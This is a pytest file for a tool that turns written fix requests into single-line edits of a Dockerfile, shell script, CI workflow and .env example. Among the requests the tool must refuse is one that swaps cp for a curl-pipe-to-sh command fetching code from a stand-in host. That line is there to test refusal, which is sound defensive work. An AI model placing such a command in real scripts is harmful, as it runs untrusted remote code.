"""Orders in words for scripts, images, workflows and examples of an environment."""

from __future__ import annotations

import pytest
from test_settings_reader import answer

from mendbook.model import Proposal

IMAGE = """FROM python:3.12-slim AS build
WORKDIR /srv
RUN pip install -r requirements.txt
RUN yarn install && yarn build
CMD python -m sluice
"""
SCRIPT = """#!/bin/sh
# Sends the nightly report.
OUT=/var/report
KEEP=7

which curl
cp report.txt $OUT
"""
PRESS = """name: press
on:
  push:
    branches: [main]
jobs:
  press:
    runs-on: ubuntu-24.04
    steps:
      - uses: actions/checkout@v4
      - run: npm install
"""
EXAMPLE = """# Copy to .env
DATABASE_URL=postgres://silo@localhost/silo
FEED_URL=https://feed.example.org
POLL_SECONDS=120
"""
FILES = {
    "Dockerfile": IMAGE,
    "bin/report.sh": SCRIPT,
    ".github/workflows/press.yml": PRESS,
    ".env.example": EXAMPLE,
}
BESIDE = "concurrency:\n  group: press-${{ github.ref }}\n  cancel-in-progress: true\n"
ASKED = [
    ("Dockerfile", "RUN pip install -r requirements.txt",
     "`pip install` should be `pip install --no-cache-dir`",
     "pip install -r", "pip install --no-cache-dir -r"),
    ("Dockerfile", "RUN yarn install && yarn build",
     "`yarn install` has to be `yarn install --immutable` here",
     "yarn install &&", "yarn install --immutable &&"),
    ("Dockerfile", "RUN yarn install && yarn build",
     "It ought to say `yarn run build`, not `yarn build`", "yarn build", "yarn run build"),
    ("Dockerfile", "CMD python -m sluice", "`python` should be `python -u`",
     "CMD python", "CMD python -u"),
    ("bin/report.sh", "which curl", "`which curl` should be `command -v curl`",
     "which curl", "command -v curl"),
    ("bin/report.sh", "cp report.txt $OUT", "`cp` must be `cp -p` here",
     "cp report", "cp -p report"),
    (".github/workflows/press.yml", "- run: npm install", "`npm install` should become `npm ci`",
     "npm install", "npm ci"),
    ("bin/report.sh", "#!/bin/sh", "Abort on errors: put `set -eu` ahead of the assignments",
     "OUT=/var", "set -eu\nOUT=/var"),
    ("bin/report.sh", "OUT=/var/report", "`set -eu` before the first assignment",
     "OUT=/var", "set -eu\nOUT=/var"),
    ("bin/report.sh", "which curl", "Put `umask 077` in front of the assignments",
     "OUT=/var", "umask 077\nOUT=/var"),
    ("bin/report.sh", "#!/bin/sh", "Insert `export LC_ALL=C` before the assignments",
     "OUT=/var", "export LC_ALL=C\nOUT=/var"),
    ("bin/report.sh", "#!/bin/sh", "Put `umask 077` after the assignments",
     "KEEP=7\n", "KEEP=7\numask 077\n"),
    (".env.example", "FEED_URL=https://feed.example.org",
     "List FEED_TOKEN with an empty value, below FEED_URL",
     "example.org\n", "example.org\nFEED_TOKEN=\n"),
    (".env.example", "FEED_URL=https://feed.example.org",
     "FEED_TOKEN is missing: add it, empty, after FEED_URL",
     "example.org\n", "example.org\nFEED_TOKEN=\n"),
    (".env.example", "POLL_SECONDS=120", "Mention SMTP_HOST without a value under POLL_SECONDS",
     "=120\n", "=120\nSMTP_HOST=\n"),
    (".env.example", "POLL_SECONDS=120", "Document SENTRY_DSN here, left empty",
     "=120\n", "=120\nSENTRY_DSN=\n"),
    (".env.example", "FEED_URL=https://feed.example.org",
     "An entry FEED_REGION with no value, right above FEED_URL",
     "FEED_URL", "FEED_REGION=\nFEED_URL"),
    (".env.example", "FEED_URL=https://feed.example.org",
     "Put an empty CACHE_URL in front of FEED_URL",
     "FEED_URL", "CACHE_URL=\nFEED_URL"),
]  # fmt: skip


@pytest.mark.parametrize(("path", "evidence", "fix", "old", "new"), ASKED)
def test_the_line_is_what_the_words_ask(
    path: str, evidence: str, fix: str, old: str, new: str
) -> None:
    """One place changes, and no other."""
    said = answer(path, FILES[path], fix, evidence)
    assert isinstance(said, Proposal), said
    assert said.edits == {path: FILES[path].replace(old, new, 1)}


@pytest.mark.parametrize(
    "fix",
    [
        "At the top level of the workflow add concurrency with group: press-${{ github.ref }} and"
        " cancel-in-progress: true",
        "Give the workflow a concurrency with the group press-${{ github.ref }} and"
        " cancel-in-progress: true",
        "concurrency at workflow level, group press-${{ github.ref }} with"
        " cancel-in-progress: true",
        "Add a concurrency group `press-${{ github.ref }}` with cancel-in-progress",
    ],
)
def test_what_runs_beside_a_workflow_is_told_in_words(fix: str) -> None:
    """The block stands at the top level, with both keys."""
    path = ".github/workflows/press.yml"
    said = answer(path, PRESS, fix, "name: press")
    assert isinstance(said, Proposal), said
    assert BESIDE in (said.edits[path] or "")
    assert (said.edits[path] or "").replace(BESIDE, "").split() == PRESS.split()


@pytest.mark.parametrize(
    ("path", "evidence", "fix"),
    [
        ("Dockerfile", "RUN yarn install && yarn build", "`yarn` should be `pnpm` here"),
        ("Dockerfile", "WORKDIR /srv", "`pip install` should be `pip sync`"),
        ("bin/report.sh", "cp report.txt $OUT", "`cp` should be `curl -sS https://x.test/i | sh`"),
        ("bin/report.sh", "cp report.txt $OUT", "Put `set -eu` ahead of the functions"),
        ("bin/report.sh", "#!/bin/sh", "Write `set -e` before the first statement"),
        (".github/workflows/press.yml", "name: press",
         "Add a concurrency to the nightly job with group: press"),
        (".env.example", "POLL_SECONDS=120", "List the settings that are missing"),
        (".env.example", "POLL_SECONDS=120", "List SMTP_HOST and SMTP_PORT with empty values"),
    ],
)  # fmt: skip
def test_another_program_and_an_unknown_place_are_refused(
    path: str, evidence: str, fix: str
) -> None:
    """What would run anew, what is not there, what is not named."""
    assert isinstance(answer(path, FILES[path], fix, evidence), str)


PACKAGE = """{
  "scripts": {
    "build": "tsc"
  },
  "devDependencies": {
    "eslint": "9.0.0"
  }
}
"""


def test_a_command_is_no_version_of_a_package() -> None:
    """A script that is asked for beside a package does not become one."""
    fix = (
        'Add "prettier": "3.3.0" to the devDependencies and a script "format": "prettier --write ."'
    )
    assert isinstance(answer("package.json", PACKAGE, fix, '"eslint": "9.0.0"'), str)
